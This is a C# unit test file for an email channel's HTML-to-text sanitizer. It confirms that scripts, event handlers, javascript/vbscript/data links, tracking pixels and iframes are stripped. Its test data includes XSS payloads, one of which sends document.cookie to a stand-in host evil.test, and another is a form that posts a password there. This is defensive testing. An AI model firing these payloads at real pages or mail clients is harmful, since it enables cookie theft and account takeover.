using ContactCenter.Plugins.Channels.Email.Inbound;

namespace ContactCenter.Plugins.Channels.Email.Tests.Inbound;

public sealed class HtmlTextTests
{
    [Fact]
    public void ToText_ScriptsStylesAndMarkup_OnlyTheVisibleTextRemains()
    {
        const string html = "<html><head><title>t</title><style>p{color:red}</style></head><body><script>alert('x')</script>"
            + "<p>Hola&nbsp;<b>Ana</b> &amp; familia</p><img src=x onerror=alert(1)><div>Segunda&lt;script&gt; línea</div></body></html>";

        var text = HtmlText.ToText(html);

        Assert.Equal("Hola Ana & familia\nSegunda<script> línea", text);
    }

    [Fact]
    public void ToText_Links_KeepSafeTargetsOnly()
    {
        var text = HtmlText.ToText("<p><a href=\"https://example.test/poliza\">su póliza</a> y <a href=\"javascript:alert(1)\">esto</a></p>");

        Assert.Equal("su póliza [https://example.test/poliza] y esto", text);
    }

    [Fact]
    public void ToText_BreaksAndBlocks_BecomeLines()
    {
        Assert.Equal("uno\ndos\ntres", HtmlText.ToText("uno<br>dos<ul><li>tres</li></ul>"));
    }

    /// <summary>Hostile HTML: nothing executable, no markup, no remote fetch, no dangerous link survives; the visible text does.</summary>
    [Theory]
    [InlineData("<p>Hola</p><script>fetch('https://evil.test/?c='+document.cookie)</script>", "Hola")]
    [InlineData("<p onclick=\"alert(1)\" onmouseover='steal()'>Hola</p><body onload=alert(2)>", "Hola")]
    [InlineData("<a href=\"javascript:alert(1)\">Hola</a><a href=\" JaVaScRiPt:alert(2)\">!</a><a href=\"java&#x09;script:alert(3)\">!</a>", "Hola!!")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Hola</a><a href=\"vbscript:msgbox(1)\">!</a>", "Hola!")]
    [InlineData("<div style=\"width: expression(alert(1)); background:url(javascript:alert(2))\">Hola</div><style>*{x:expression(alert(3))}</style>", "Hola")]
    [InlineData("<p>Hola</p><img src=\"https://tracker.test/pixel.gif?u=ana\" width=1 height=1><img src=//tracker.test/p2 alt=\"\">", "Hola")]
    [InlineData("<form action=\"https://evil.test/login\" method=post><input name=pwd type=password value=\"x\"><button formaction=javascript:alert(1)>Hola</button></form>", "Hola")]
    [InlineData("<p>Hola</p><iframe src=\"https://evil.test\"><script>alert(1)</script>marco</iframe>", "Hola")]
    [InlineData("<p>Hola</p><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe><object data=evil.swf>obj</object><embed src=evil.swf>", "Hola")]
    [InlineData("<svg onload=alert(1)><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\"><text>Hola</text></a></svg>", "Hola")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>Hola", "Hola")]
    [InlineData("<!-- <script>alert(1)</script> -->Hola<noscript><img src=x onerror=alert(2)></noscript><template><script>alert(3)</script></template>", "Hola")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.test\"><base href=\"https://evil.test/\"><link rel=stylesheet href=https://evil.test/x.css>Hola", "Hola")]
    public void ToText_HostileHtml_OnlyTheVisibleTextRemains(string html, string expected)
    {
        var text = HtmlText.ToText(html);

        Assert.Equal(expected, text);
    }

    [Fact]
    public void ToText_InlineImages_NamedByTheirAlt_RemoteOnesLeaveNothing()
    {
        var text = HtmlText.ToText("<p>Mire el golpe:<img src=\"cid:foto1@cliente.test\" alt=\"Foto del golpe\"><img src=\"CID:foto2\"></p><p><img src=\"https://tracker.test/p.gif\" alt=\"pixel\">Fin</p>");

        Assert.Equal("Mire el golpe: [imagen / image: Foto del golpe] [imagen / image]\nFin", text);
    }
}
